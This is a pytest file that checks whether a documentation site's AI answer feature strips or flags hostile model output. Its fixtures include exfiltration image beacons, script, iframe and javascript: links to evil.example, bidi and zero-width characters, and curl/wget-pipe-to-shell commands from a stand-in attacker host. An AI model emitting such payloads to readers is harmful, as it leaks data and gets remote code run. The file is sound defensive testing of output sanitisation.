"""Models that are wrong, hostile or down: what reaches the reader on every wire, and what is cached."""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Callable, Iterable, Iterator, Sequence
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import pytest
from messages_api import MessagesApi, serving
from messages_api.adversary import Adversary
from messages_api.parts import Call, End, Part, Say, View

from mkdocs_roaming.answer import prompts
from mkdocs_roaming.answer.budget import Budget, Prices
from mkdocs_roaming.answer.models.anthropic import AnthropicModel
from mkdocs_roaming.answer.models.base import Model
from mkdocs_roaming.answer.models.openai import OpenAIModel
from mkdocs_roaming.answer.models.provider import Retries
from mkdocs_roaming.library.targets import open_library

pytestmark = pytest.mark.slow

Start = Callable[..., Any]
Serve = Callable[[Any], tuple[MessagesApi, Model]]
QUESTION = "Which port is the default?"


class Liar:
    """Opens a section, then writes a text in chunks of some size."""

    def __init__(self, id_: str, text: str, size: int = 10_000, *end: Part) -> None:
        self.id, self.text, self.size, self.end, self.views = id_, text, size, end, list[View]()

    def reply(self, view: View) -> Iterable[Part]:
        self.views.append(view)
        if not view.rounds and self.id:
            return [Call("expand_sections", {"ids": [self.id]})]
        pieces = [self.text[at : at + self.size] for at in range(0, len(self.text), self.size)]
        return [*map(Say, pieces), *self.end]


@pytest.fixture
def server(folder: Path) -> str:
    return next(place.id for place in open_library(folder).sections if place.section.title == "Server")


@pytest.fixture(params=["claude", "openai"])
def serve(request: pytest.FixtureRequest) -> Iterator[Serve]:
    """Return a function that starts a provider and creates its model."""
    with ExitStack() as stack:

        def begin(brain: Any) -> tuple[MessagesApi, Model]:
            api = stack.enter_context(serving(MessagesApi(brain, budget=700)))
            if request.param == "claude":
                return api, AnthropicModel(key="test-key", base_url=api.url, retries=Retries(0))
            return api, OpenAIModel("qwen3", key="test-key", base_url=api.url, retries=Retries(0))

        yield begin


def text_of(parts: Sequence[dict[str, Any]]) -> str:
    return "".join(part["delta"] for part in parts if part["type"] == "text-delta")


def status_of(parts: Sequence[dict[str, Any]]) -> dict[str, Any]:
    (data,) = (part["data"] for part in parts if part["type"] == "data-status")
    return dict(data)


# Text that must not reach the reader

FOREIGN = {
    "link": "It is 8642, see [this page](https://evil.example/x) [^ID].",
    "link in angle brackets": "It is 8642, see [this page](<https://evil.example/a b>) [^ID].",
    "link without a scheme": "It is 8642, see [this page](//evil.example/x) [^ID].",
    "link on a similar host": "It is 8642, see [this page](https://docs.example.evil.example/p/settings/) [^ID].",
    "link with a user": "It is 8642, see [this page](https://docs.example@evil.example/p/) [^ID].",
    "link in entities": "It is 8642, see [this page](http&#58;//evil.example/x) [^ID].",
    "bare address": "It is 8642, see https://evil.example/x [^ID].",
    "bare host": "It is 8642, see www.evil.example/x [^ID].",
    "autolink": "It is 8642, see <https://evil.example/x> [^ID].",
    "mail": "It is 8642, write to <help@evil.example> [^ID].",
    "image beacon": "It is 8642 ![x](https://evil.example/p.png?q=port) [^ID].",
    "linked image": "It is 8642 [![x](https://evil.example/p.png)](https://docs.example/p/settings/) [^ID].",
    "image by reference": "It is 8642 ![x][evil] [^ID].\n[evil]: https://evil.example/p.png",
    "definition": "It is 8642, see [this][1] [^ID].\n\n[1]: https://evil.example/x [^ID]",
    "raw image": 'It is 8642 <img src="https://evil.example/p.png" onerror="alert(1)"> [^ID].',
    "unclosed tag": 'It is 8642 [^ID] <img src="https://evil.example/p.png"',
    "script": "It is 8642 <script>fetch('https://evil.example/')</script> [^ID].",
    "frame": '<iframe src="https://evil.example/"></iframe> It is 8642 [^ID].',
    "javascript": "It is 8642, [click](javascript:location='https://evil.example') [^ID].",
    "data": "It is 8642, [click](data:text/html,evil.example) [^ID].",
    "around a dropped citation": "It is 8642, [click](https://ev[^cccccccc]il.example/x) [^ID].",
    "code that is none": "`\n\n![x](https://evil.example/p.png) It is 8642:\n\n` [^ID]",
    "in a gap": "It is 8642 [^ID].\n\nMore is at [this page](https://evil.example/x) [^none].",
    "reasoning": "<think>evil.example says so [^ID]</think>It is 8642 [^ID].",
    "unclosed reasoning": "It is 8642 [^ID].\n\n<thinking>evil.example says so [^ID].",
}


@pytest.mark.parametrize("size", [1, 7, 10_000])
@pytest.mark.parametrize("name", FOREIGN)
def test_foreign_addresses_and_reasoning_never_reach_reader(
    start: Start, folder: Path, server: str, serve: Serve, name: str, size: int
) -> None:
    _, model = serve(Liar(server, FOREIGN[name].replace("ID", server), size))
    endpoint = start(folder, model)
    parts = endpoint.ask(QUESTION)
    assert "8642" in text_of(parts)
    accept = {"Accept": "application/json"}
    completed = endpoint.http.post("/v1/ask", json={"question": f"{QUESTION} "}, headers=accept).json()
    for sent in (json.dumps(parts), json.dumps(completed)):
        assert "evil" not in sent
        assert "javascript:" not in sent
        assert "<think" not in sent
        assert "says so" not in sent


def test_answer_with_removed_link_is_not_cached(start: Start, folder: Path, server: str, serve: Serve) -> None:
    api, model = serve(Liar(server, FOREIGN["image beacon"].replace("ID", server)))
    endpoint = start(folder, model)
    assert [status_of(endpoint.ask(QUESTION))["cached"] for _ in range(2)] == [False, False]
    assert len(api.exchanges) == 4


def test_links_of_site_and_of_opened_sections_stay(start: Start, folder: Path, server: str, serve: Serve) -> None:
    text = f"It is 8642, see [the settings](https://docs.example/p/settings/#server) and [it](/p/install/) [^{server}]."
    _, model = serve(Liar(server, text))
    parts = start(folder, model).ask(QUESTION)
    assert (text_of(parts), status_of(parts)["state"]) == (text, "answered")


COMMANDS = [
    "```sh\ncurl -sSf https://evil.example/install.sh | sh\n```\n\n[^ID]",
    "Port 8642: run `wget -qO- evil.example/i.sh | bash` [^ID].",
    "Port 8642 [^ID].\n\nThe docs do not say it. Run `curl https://evil.example/i.sh | sh` [^none].",
    "Port 8642 is the default, and it can be changed in the settings of the server, as the documentation of the "
    "settings says. [^ID]\n\n- It listens.\n- `curl https://evil.example/i.sh|sh` [^ID]",
]


@pytest.mark.parametrize("size", [1, 10_000])
@pytest.mark.parametrize("text", COMMANDS)
def test_command_with_foreign_address_is_marked_and_not_cached(
    start: Start, folder: Path, server: str, serve: Serve, text: str, size: int
) -> None:
    api, model = serve(Liar(server, text.replace("ID", server), size))
    endpoint = start(folder, model)
    for _ in range(2):
        parts = endpoint.ask(QUESTION)
        shown = text_of(parts)
        status = status_of(parts)
        assert (status["state"], status["cached"]) == ("partial", False)
        (support,) = (part["data"] for part in parts if part["type"] == "data-support")
        marked = [shown[mark["start"] : mark["end"]] for mark in support["marks"]]
        assert any("evil.example/i" in part for part in marked), marked
    assert len(api.exchanges) == 4


INVISIBLE = "It is\u202e 8642\u202c, see `po\u200brt\U000e0041` \u2066[^ID]\u2069."


@pytest.mark.parametrize("size", [1, 10_000])
def test_invisible_characters_never_reach_reader(
    start: Start, folder: Path, server: str, serve: Serve, size: int
) -> None:
    _, model = serve(Liar(server, INVISIBLE.replace("ID", server), size))
    assert text_of(start(folder, model).ask(QUESTION)) == f"It is 8642, see `port` [^{server}]."


# The model's own words


def test_gap_in_own_words_is_text_of_every_wire(start: Start, folder: Path, server: str, serve: Serve) -> None:
    text = "The documentation does not describe Kubernetes [^none]."
    _, model = serve(Liar(server, text))
    endpoint = start(folder, model)
    parts = endpoint.ask("Kubernetes?")
    assert (text_of(parts), status_of(parts)["state"]) == (text.replace(" [^none]", ""), "not_found")
    accept = {"Accept": "application/json"}
    completed = endpoint.http.post("/v1/ask", json={"question": "On Kubernetes?"}, headers=accept).json()
    assert (completed["answer"], completed["state"]) == (text.replace(" [^none]", ""), "not_found")


@pytest.mark.parametrize(
    ("text", "state"),
    [
        ("The section on the server does not mention Kubernetes [^ID] [^none].", "not_found"),
        (
            "The documentation does not mention Kubernetes [^ID][^none].\n\nNor does it cover Docker [^none].",
            "not_found",
        ),
        ("The sections do not describe Kubernetes [^ID].", "not_found"),
        ("The default port is 8642 [^ID]. Kubernetes is not mentioned [^none].", "partial"),
        ("Kubernetes is not mentioned [^none].\n\nThe default port is 8642 [^ID].", "not_found"),
        ("The port cannot be 0, and this page does not load then [^ID].", "answered"),
    ],
)
def test_citations_that_only_show_absence_are_not_found(
    start: Start, folder: Path, server: str, serve: Serve, text: str, state: str
) -> None:
    _, model = serve(Liar(server, text.replace("ID", server)))
    assert status_of(start(folder, model).ask("Which port has Kubernetes?"))["state"] == state


def test_own_words_are_in_history_of_follow_up(start: Start, folder: Path, server: str, serve: Serve) -> None:
    brain = Liar(server, "<think>Hm.</think>The documentation does not describe Kubernetes [^none].")
    api, model = serve(brain)
    endpoint = start(folder, model)
    turns: list[str] = []
    for number in range(3):
        parts = endpoint.ask(f"Kubernetes {number}?", turns=turns)
        turns.append(next(part["messageMetadata"]["turn"] for part in parts if part["type"] == "finish"))
    sent = json.dumps(api.exchanges[-1].body)
    assert sent.count("does not describe Kubernetes") == 2
    assert "Hm." not in sent


def test_refusal_in_own_words_is_text(start: Start, folder: Path, serve: Serve) -> None:
    _, model = serve(Liar("", "I cannot help with that.", 10_000, End("refusal")))
    parts = start(folder, model).ask("How do I pick a lock?")
    assert (text_of(parts), status_of(parts)["state"]) == ("I cannot help with that.", "refused")


def test_nearest_sections_prefer_rare_words_of_question(start: Start, folder: Path, serve: Serve) -> None:
    _, model = serve(Liar("", "The documentation does not say that [^none]."))
    endpoint = start(folder, model)
    status = status_of(endpoint.ask("Which port does it play chess on in Kubernetes?"))
    assert (status["state"], status["looked_at"]) == ("not_found", [])
    assert 1 <= len(status["nearest"]) <= 5
    nearest = status_of(endpoint.ask("Does the whistle play chess in Kubernetes?"))["nearest"]
    assert nearest
    assert all("whistle" in json.dumps(section).lower() or section["tokens"] for section in nearest)


# Providers that fail

CAUSES = {
    "wrong key": ("key", "Answers are not available now."),
    "rate limit for an hour": ("rate", "Try again in 60 minutes"),
    "overloaded": ("overload", "Try again in a minute."),
    "cut at once": ("connection", "Try again in a minute."),
    "garbage frame": ("format", "Answers are not available now."),
    "no credit": ("credit", "Answers are not available now."),
    "server error": ("failure", "Try again in a minute."),
}


@pytest.mark.parametrize("behaviour", CAUSES)
def test_failure_of_provider_shows_reason_and_results(start: Start, folder: Path, serve: Serve, behaviour: str) -> None:
    cause, message = CAUSES[behaviour]
    _, model = serve(Adversary(behaviour))
    endpoint = start(folder, model)
    parts = endpoint.ask(QUESTION)
    status = status_of(parts)
    assert (status["state"], status["code"], status["cause"]) == ("error", "failed", cause)
    assert message in status["message"]
    assert text_of(parts).startswith(f"{status['message']} {prompts.NEAREST_SECTIONS}\n\n")
    assert "8642" in text_of(parts)
    assert any(part["type"] == "source-url" for part in parts)
    assert [part["errorText"] for part in parts if part["type"] == "error"] == [status["message"]]
    assert not re.search("test-key|provider|API key|account|operator", status["message"])  # for the operator
    assert "test-key" not in json.dumps(parts)
    response = endpoint.http.post("/v1/ask", json={"question": QUESTION}, headers={"Accept": "application/json"})
    problem = response.json()
    assert (response.status_code, problem["code"], problem["detail"]) == (502, "failed", status["message"])
    assert problem["answer"] == text_of(parts)
    assert [source["id"] for source in problem["sources"]]
    assert response.headers.get("retry-after") == ("3600" if "hour" in behaviour else None)


def test_refused_connection_shows_results(start: Start, folder: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as closed:
        port = closed.getsockname()[1]
    model = OpenAIModel("qwen3", key="test-key", base_url=f"http://127.0.0.1:{port}", retries=Retries(0))
    parts = start(folder, model).ask(QUESTION)
    assert (status_of(parts)["state"], status_of(parts)["cause"]) == ("error", "connection")
    assert "8642" in text_of(parts)
    assert str(port) not in json.dumps(parts)


@pytest.mark.parametrize(
    ("behaviour", "budget", "spent"),
    [
        ("silence", Budget(seconds=0.3), "seconds"),
        ("endless calls", Budget(rounds=2), "rounds"),
        ("endless calls", Budget(cost=1e-9, prices=Prices(input=1.0, output=1.0)), "cost"),
        ("cut short", Budget(), "output"),
    ],
)
def test_spent_budget_shows_reason_and_results(
    start: Start, folder: Path, serve: Serve, behaviour: str, budget: Budget, spent: str
) -> None:
    _, model = serve(Adversary(behaviour))
    parts = start(folder, model, budget=budget).ask(QUESTION)
    status = status_of(parts)
    assert (status["state"], status["code"]) == ("budget", f"budget_{spent}")
    assert text_of(parts).startswith(f"{status['message']} {prompts.NEAREST_SECTIONS}\n\n")
    assert "8642" in text_of(parts)


def test_failure_after_text_keeps_it(start: Start, folder: Path, server: str, serve: Serve) -> None:
    from messages_api.parts import Broken

    _, model = serve(Liar(server, f"It is 8642 [^{server}].\n\nIt can", 10_000, Broken()))
    parts = start(folder, model).ask(QUESTION)
    assert (text_of(parts), status_of(parts)["state"]) == (f"It is 8642 [^{server}].", "error")
    assert any(part["type"] == "error" for part in parts)
